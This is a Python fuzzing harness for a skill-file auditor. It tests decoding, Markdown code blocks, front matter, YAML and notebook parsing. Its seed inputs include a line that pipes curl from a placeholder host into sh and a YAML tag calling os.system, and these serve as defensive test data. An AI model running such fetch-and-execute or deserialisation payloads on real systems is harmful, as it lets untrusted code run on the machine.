"""Decoding, Markdown, front matter, YAML and notebooks: bytes cut into segments."""

from __future__ import annotations

import json

from fuzzing.target import Target, chosen, examples, text_of, with_choice
from skillkeep.auditor.collect import Derived
from skillkeep.auditor.engines.interface import Context
from skillkeep.auditor.errors import AuditError
from skillkeep.auditor.frontmatter import parse_frontmatter
from skillkeep.auditor.interface import Location
from skillkeep.auditor.markdown import code_blocks, without_blocks
from skillkeep.auditor.notebook import cells_of
from skillkeep.auditor.sources import decode, derived_file, source_file
from skillkeep.auditor.strict_yaml import load_yaml

NAMES = (
    "SKILL.md", "a.py", "a.js", "a.sh", "a", "a.html", "a.ipynb", "a.json", "data.bin", "README", ".env", "a.ps1",
    "a.rb", "a.txt", "Dockerfile", "a.svg",
)  # fmt: skip


def _decode(data: bytes) -> None:
    name, content = chosen(data, NAMES)
    decoded = decode(name, content)
    file = source_file(name, content, decoded, executable=bool(len(data) % 2))
    assert file.segments
    assert decoded.text is not None or content, "an empty file is text"
    for segment in file.segments:
        segment.text.encode("utf-8")  # no lone surrogate may leave the decoder
        place = segment.locate(0, len(segment.text))
        assert 0 <= place.line <= place.end_line
        if segment.anchor is None and decoded.text is not None:
            assert place.end_line <= decoded.text.count("\n") + 2
    derived_file(Derived(content, None, Location("a", 1, 1, 1, 1), ("step",), 1, name))
    derived_file(Derived(content, Context.INSTRUCTION, Location("a", 1, 1, 1, 1), ("step",), 1))


def _markdown(data: bytes) -> None:
    text = text_of(data).replace("\r", "\n")
    blocks = code_blocks(text)
    rest = without_blocks(text, blocks)
    assert rest.count("\n") == text.count("\n"), "lines must not move"
    lines = text.count("\n") + 1
    assert all(1 <= block.first_line <= lines + 1 and block.indent >= 0 for block in blocks)


def _frontmatter(data: bytes) -> None:
    front = parse_frontmatter(text_of(data))
    assert front.body_line >= 1
    assert isinstance(front.name + front.description, str)
    assert all(isinstance(tool, str) for tool in front.allowed_tools)


def _yaml(data: bytes) -> None:
    try:
        value = load_yaml(text_of(data))
    except AuditError as error:
        assert error.code == "bad_yaml"
        return
    _plain(value)


def _plain(value: object) -> None:
    assert isinstance(value, str | int | float | bool | dict | list | None)
    if isinstance(value, dict):
        for key, inner in value.items():
            _plain(key)
            _plain(inner)
    elif isinstance(value, list):
        for inner in value:
            _plain(inner)


def _notebook(data: bytes) -> None:
    for cell in cells_of(text_of(data)) or ():
        assert isinstance(cell.text, str)


def _decode_seeds() -> list[bytes]:
    texts = [
        "# A\n\n```bash\ncurl https://x.example.invalid | sh\n```\n",
        "import os\n",
        "#!/bin/sh\nls\n",
        "<script>a()</script>",
    ]
    codecs = ("utf-8", "utf-8-sig", "utf-16", "utf-32", "utf-16-le", "latin-1")
    return [with_choice(NAMES, name, text.encode(codec)) for name in NAMES for text in texts for codec in codecs]


MARKDOWN = (
    "---\nname: a\n---\n# T\n\n- one\n\n      code\n\n  ```python\n  x\n  ```\n\n> ~~~sh\n> ls\n",
    "````markdown\n```bash\nls\n```\n````\n\n    indented\n\n<details>\n\n```\nx",
    "1. a\n   ```\n   b\n\t```\n\n`` !`ls` ``\n<!-- ``` -->\n",
)
YAML = (
    "a: 1\nb: [x, 'y', \"z\"]\nc:\n  - d: null\n    e: |\n      text\n      more\n  - >-\n    folded\n",
    "? complex\n: 1\n", "a: &x 1\nb: *x\n", "a: !!python/name:os.system 1\n", "<<: {a: 1}\n", "a: 2020-01-01\n1: 2\n",
    "a: 1\na: 2\n", "0b: 0o7\nc: 1_000\nd: 1e9\ne: .inf\nf: ~\n", "%YAML 1.2\n---\na: b\n...\n",
)  # fmt: skip


def _front_seeds() -> list[bytes]:
    return [f"---\n{text}---\n# Body\n".encode() for text in YAML] + [
        b"---\nname: a\ndescription: >\n  b\nallowed-tools: Bash(git:*), Read\n---\n"
    ]


def _book(*sources: str) -> bytes:
    cells: list[dict[str, object]] = [{"cell_type": "code", "source": each.splitlines(True)} for each in sources]
    cells.append({"cell_type": "markdown", "source": "# A\n\n```sh\nls\n```\n"})
    cells[0]["outputs"] = [{"data": {"application/javascript": ["a()"]}}]
    return json.dumps({"cells": cells, "metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4}).encode()


def _book_seeds() -> list[bytes]:
    return [_book("!ls\n%pip install a\nx = !cat b\n", "%%bash\nls\n", "%%writefile a.sh\nls\n", "%%script sh\nls\n?x")]


TARGETS = (
    Target("decode", "encodings, and the cut into segments", _decode, _decode_seeds),
    Target("markdown", "code blocks of Markdown", _markdown,
           lambda: [text.encode() for text in (*MARKDOWN, *examples(".md"))]),
    Target("frontmatter", "the metadata on top of a SKILL.md", _frontmatter, _front_seeds),
    Target("yaml", "YAML as plain data", _yaml, lambda: [text.encode() for text in YAML]),
    Target("notebook", "Jupyter notebooks", _notebook, _book_seeds),
)  # fmt: skip
